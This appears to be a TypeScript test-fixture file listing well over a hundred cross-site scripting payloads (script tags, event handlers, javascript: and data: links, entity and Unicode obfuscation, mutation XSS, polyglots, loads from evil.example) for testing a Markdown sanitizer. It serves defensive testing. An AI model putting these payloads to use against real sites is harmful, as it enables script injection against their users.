/**
 * Hostile inputs for anything that turns member text into HTML: the Markdown
 * renderer, form posts, the API and browser tests all run them. Every payload
 * that would execute calls alert(1) (or msgbox), so a browser test can watch
 * for a dialog; the rest try to load something from another host.
 *
 * Control and invisible characters are written as escapes so that they survive
 * editors and diffs.
 */
export const xssVectors: readonly string[] = Object.freeze([
  // Script tags: casing, splitting, nesting, unterminated, in Markdown constructs.
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<ScRiPt src="https://evil.example/x.js"></ScRiPt>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)//<</script>/script>',
  '<script/xss src="//evil.example/x.js"></script>',
  '<script\n>alert(1)</script\n>',
  '<script>alert(1)',
  '*<script>alert(1)</script>*',
  '> <script>alert(1)</script>',
  '- <script>alert(1)</script>',
  '[<script>alert(1)</script>](https://example.com)',
  '`</code><script>alert(1)</script>`',
  '```"><script>alert(1)</script>\ncode\n```',
  '    <script>alert(1)</script>',
  '\\<script\\>alert(1)\\</script\\>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',

  // Event handlers on all sorts of elements.
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<IMG SRC=x ONERROR=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<div onmouseover="alert(1)">hover me</div>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<p onpointerenter=alert(1)>text</p>',
  '<a href="https://example.com" onclick="alert(1)">x</a>',
  '<a href="https://example.com" target="_blank">tabnabbing</a>',
  '~~<img src=x onerror=alert(1)>~~',
  '`<img src=x onerror=alert(1)>`',

  // Dangerous schemes in Markdown links, autolinks and references.
  '[a](javascript:alert(1))',
  '[a](<javascript:alert(1)>)',
  '[a](JaVaScRiPt:alert(1))',
  '[a]( javascript:alert(1))',
  '[a](javascript://%0aalert(1))',
  '[a](javascript://example.com/%0Aalert(1))',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](data:image/svg+xml,<svg onload=alert(1)>)',
  '[a](data:image/png;base64,iVBORw0KGgo=)',
  '**[a](javascript:alert(1))**',
  '- [a](javascript:alert(1))',
  '> [a](vbscript:msgbox(1))',
  '<javascript:alert(1)>',
  '<JAVASCRIPT:alert(1)>',
  '<vbscript:msgbox(1)>',
  '<data:text/html,<script>alert(1)</script>>',
  '[a][x]\n\n[x]: javascript:alert(1)',
  '[a]\n\n[a]: <javascript:alert(1)>',
  '[a][x]\n\n[x]: &#106;avascript:alert(1)',
  'javascript:alert(1)',

  // Entity encoding.
  '[a](&#106;avascript:alert(1))',
  '[a](&#x6A;avascript:alert(1))',
  '[a](&#X6a;&#X61;vascript:alert(1))',
  '[a](javascript&colon;alert(1))',
  '[a](javascript&#58;alert(1))',
  '[a](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))',
  '[a](%6A%61%76%61%73%63%72%69%70%74:alert(1))',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a/href="javascript&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',

  // Whitespace, control characters and null bytes inside the scheme.
  '[a](java\tscript:alert(1))',
  '[a](<java\tscript:alert(1)>)',
  '[a](<java\nscript:alert(1)>)',
  '[a](java\u0000script:alert(1))',
  '[a](\u0000javascript:alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](java&#x09;script:alert(1))',
  '[a](java%09script:alert(1))',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="\tjavascript:alert(1)">x</a>',

  // Relative and protocol-relative destinations: no href at all.
  '[a](//evil.example/x)',
  '[a](/\\evil.example/x)',
  '[a](\\\\evil.example/x)',
  '[a](/relative/path)',
  '[a](https:evil.example)',
  '<a href="//evil.example/">x</a>',

  // Link titles and destinations that try to break out of the attribute.
  '[a](https://example.com "onmouseover=alert(1)")',
  '[a](https://example.com "\\" onmouseover=\\"alert(1)")',
  '[a](https://example.com\' onmouseover=\'alert(1))',
  '[a](https://example.com" onmouseover="alert(1))',
  '[a](<https://example.com" onmouseover="alert(1)>)',
  '[a](https://example.com\n"onmouseover=alert(1)")',
  '[a][x]\n\n[x]: https://example.com "\\" onmouseover=\\"alert(1)"',
  '[a](https://example.com)"onmouseover="alert(1)',
  '<https://example.com/" onmouseover="alert(1)>',
  'https://example.com/"><script>alert(1)</script>',
  'https://example.com/?q=<img src=x onerror=alert(1)>',
  'https://example.com/\'onmouseover=\'alert(1)',

  // Images: no remote fetch, no handler.
  '![x](x" onerror="alert(1))',
  '![x](https://evil.example/track.png)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/x.png "title" onerror=alert(1))',
  '[![x](https://evil.example/i.png)](javascript:alert(1))',
  '<img src="https://evil.example/track.png">',

  // Nested brackets.
  '[[a](javascript:alert(1))](https://example.com)',
  '[a](https://example.com)[b](javascript:alert(1))',
  '[x](https://example.com/[a](javascript:alert(1)))',
  '[[[[[a](javascript:alert(1))]]]]',
  '[a](javascript:alert(1) "[b](https://example.com)")',

  // Elements that load, navigate or submit.
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',

  // CSS.
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<p style="behavior: url(https://evil.example/x.htc)">x</p>',
  '<span style="background-image: url(&quot;https://evil.example/track.png&quot;)">x</span>',

  // SVG and MathML.
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x" />',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">click</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>',

  // Comments, CDATA, processing instructions, templates.
  '<!--<img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<template><img src=x onerror=alert(1)></template>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html><script>alert(1)</script>',

  // Unicode tricks.
  '[a](ｊａｖａｓｃｒｉｐｔ:alert(1))',
  '＜script＞alert(1)＜/script＞',
  '[a](java\u200Bscript:alert(1))',
  '[a](\uFEFFjavascript:alert(1))',
  '[a](javascript\u2028:alert(1))',
  '[\u202Egnp.exe](https://example.com)',
  '\u202E<script>alert(1)</script>',
  'invoice\u2067txt.exe\u2069 and \u202Aembedded\u202C',
  '&#x202E;gnp.exe',
  '[https://bank.example\u200D](https://evil.example)',

  // Mutation XSS: markup a browser re-parses differently from a sanitizer.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi><table><mi><svg><mtext><select><style><img src=x onerror=alert(1)></style></select></mtext></svg></mi></table></mi></math>',
  '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',

  // Polyglots.
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
  '"><svg/onload=alert(1)>',
  '\'"><img src=x onerror=alert(1)>',
  '"\'--></style></script><script>alert(1)</script>',
  '[a](javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>)',
]);
